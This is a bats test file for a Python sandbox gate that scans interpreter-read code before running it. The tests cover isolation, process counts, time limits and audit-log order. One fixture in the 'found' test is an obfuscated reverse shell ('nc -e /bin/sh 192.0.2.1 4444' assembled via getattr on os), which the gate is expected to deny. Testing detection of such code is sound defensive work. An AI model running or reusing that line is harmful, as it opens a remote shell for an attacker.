#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# A Python run reads its own code while its interpreter starts (runtime/boot): the gate sees what is
# behind the code's disguises before a byte of it runs, and the program sees nothing of all that.
load helper
load scan.bash

# With a variable of Python's own the code is read in another box: that is how it is without.
elsewhere='--env PYTHONUNUSED=1'

# What a program can see of the interpreter it runs in.
facts() {
	code facts.py <<-'END'
		import encodings, os, sys
		print(sys.path, sys.argv, sys.flags, sys.orig_argv, sys.warnoptions)
		print(sorted(k for k in os.environ if k != "PYTHONUNUSED"), os.environ.get("PYTHONPATH"))
		print(sorted(os.listdir("/proc/self/fd")), os.getcwd(), __file__, __name__, __spec__)
		print(sorted(m for m in sys.modules if m not in ("sitecustomize", "types")))
		print(sorted(dir(encodings)), encodings.__file__, "x".encode("idna"), sorted(globals()))
		print(sys.path_importer_cache.keys() - {"/cordon/boot"} == sys.path_importer_cache.keys())
		try:
		    os.waitpid(-1, 0)
		except ChildProcessError:
		    print("no child")
	END
}

same() {
	facts
	box "$1" facts.py -- a b
	exits 0
	cp out here
	# shellcheck disable=SC2086 # words
	box "$1" $elsewhere facts.py -- a b
	exits 0
	diff out here
	mkdir -p w
	box "$1" --workspace "$T/w:ro" facts.py
	exits 0
	cp out here
	# shellcheck disable=SC2086 # words
	box "$1" $elsewhere --workspace "$T/w:ro" facts.py
	exits 0
	diff out here
}
@test "a program sees no difference" {
	every same
}

# A wrapper counts how often a box is begun.
counted() {
	mv "$T/bin/cordon-box" "$T/bin/real"
	printf '#!/bin/sh\necho >>"%s"\nexec "%s/bin/real" "$@"\n' "$T/begun" "$T" >"$T/bin/cordon-box"
	chmod 755 "$T/bin/cordon-box"
}

once() {
	rm -f "$T/begun"
	: >"$T/begun"
	chmod 666 "$T/begun"
	box "$1" x.py
	exits 0
	out_is 'ran'
	[ "$(wc -l <"$T/begun")" -eq 1 ] || show
	: >"$T/begun"
	# shellcheck disable=SC2086 # words
	box "$1" $elsewhere x.py
	exits 0
	[ "$(wc -l <"$T/begun")" -ge 2 ] || show
}
@test "one box and one interpreter for an ordinary run" {
	echo 'print("ran")' | code x.py
	counted
	every once
}

found() {
	printf 'print("ran", flush=True)\nimport os as o\ngetattr(o, "sys" + "tem")("nc -e /bin/" + "sh 192.0.2.1 4444")\n' |
		code x.py
	box "$1" --json x.py
	exits 126
	holds 'r["verdict"] == "deny" and r["stdout"] == ""' \
		'[f["view"] for f in r["rules"] if f["grade"] == "denies"] == ["code"]'
	# Something is found that only shows: it runs, with that on record.
	printf 'print("ran")\n' | code y.py
	box "$1" --json y.py
	exits 0
	holds 'r["stdout"] == "ran\n" and r["verdict"]'
}
@test "what only the code view finds is found before anything runs" {
	every found
}

tight() {
	box "$1" --pids 1 x.py
	[ "$status" -eq 0 ] || show
	out_is 'ran'
	box "$1" --json --time 1s y.py
	exits 124
	holds 'r["stdout"] == ""'
	box "$1" z.py
	exits 1
	err_has 'SyntaxError'
}
@test "no room for a second process, no time, no Python" {
	echo 'print("ran")' | code x.py
	echo 'while True: pass' | code y.py
	echo 'def (' | code z.py
	every tight
}

# A rule that only matches in what the interpreter has read.
views() {
	rule "$T/one/a.yaml" ATR-2026-90001 low sunstone experimental
	sed -i 's/llm_io/tool_call/' "$T/one/a.yaml"
	printf 'print("sun" + "stone")\n' | code x.py
}

# untouched WAY: a run that begins again is what it was; the next one is exposed to what it printed.
untouched() {
	local who=${1%%:*} expected
	domain=$(as "$who" "$CORDON" domain new)
	for expected in agent exposed; do
		as "$who" timeout 60 "$CORDON" run --json --tier "${1#*:}" --domain "$domain" --stdin data \
			--rules "$T/one" x.py >"$T/out" 2>"$T/err"
		holds "r['origin'] == '$expected' and r['stdout'] == 'sunstone\\n'" \
			'[f["view"] for f in r["rules"]] == ["code"]'
	done
}
@test "a run that begins again has not read what it never printed" {
	views
	echo 1,2 >"$T/data"
	every untouched
}

# planned WAY: each run finds something in what its own interpreter has read, and begins again.
planned() {
	local who=${1%%:*} expected
	domain=$(as "$who" "$CORDON" domain new)
	plan=$(as "$who" "$CORDON" plan --domain "$domain" --runs 2 x.py)
	for expected in plan plan agent; do
		as "$who" timeout 60 "$CORDON" run --json --tier "${1#*:}" --domain "$domain" --plan "$plan" \
			--rules "$T/one" x.py >"$T/out" 2>"$T/err"
		holds "r['origin'] == '$expected' and r['stdout'] == 'sunstone\\n'" \
			'[f["view"] for f in r["rules"]] == ["code"]'
	done
}
@test "a run that begins again uses one of a plan's runs" {
	views
	every planned
}

# The log has the run before its first byte is out.
recorded() {
	code x.py <<-'END'
		import sys
		print("begun", flush=True)
		sys.stdin.read()
	END
	box "$1" --stdin x.py x.py
	exits 0
	as "${1%%:*}" "$CORDON" audit export --format jsonl >"$T/log"
	/usr/bin/python3 - "$T/log" <<-'END'
		import json, sys
		kinds = [json.loads(line)["kind"] for line in open(sys.argv[1])]
		assert kinds[-5:] == ["request", "scan", "verdict", "start", "result"], kinds
	END
}
@test "one record of each, in order" {
	every recorded
}
